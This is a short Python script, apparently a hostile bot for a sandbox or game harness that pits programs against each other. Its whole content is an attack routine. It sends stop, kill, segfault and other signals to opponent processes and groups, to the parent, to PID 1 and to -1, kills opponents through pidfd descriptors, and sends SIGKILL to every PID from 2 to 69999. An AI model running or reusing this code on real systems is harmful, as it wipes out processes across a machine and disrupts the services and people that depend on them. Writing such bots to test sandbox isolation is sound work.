"""Kills, stops and confuses everybody with a signal: the opponent, the parent, all of the user's processes."""
import os
import signal

import bot

SIGNALS = [signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSEGV, signal.SIGKILL]


def send(pid, number):
    os.kill(pid, number)
    return True


def by_descriptor(pid):
    fd = os.pidfd_open(pid)
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    return True


def attack():
    for number in SIGNALS:
        for pid in bot.pids():
            bot.attempt("signal %d to %d" % (number, pid), send, pid, number)
            bot.attempt("signal %d to group %d" % (number, pid), send, -pid, number)
        for pid in (os.getppid(), 1, -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    if hasattr(os, "pidfd_open"):
        for pid in bot.pids():
            bot.attempt("kill %d by descriptor" % pid, by_descriptor, pid)
    for pid in range(2, 70000):  # some are threads of process 1, which the system protects
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


bot.play(attack)
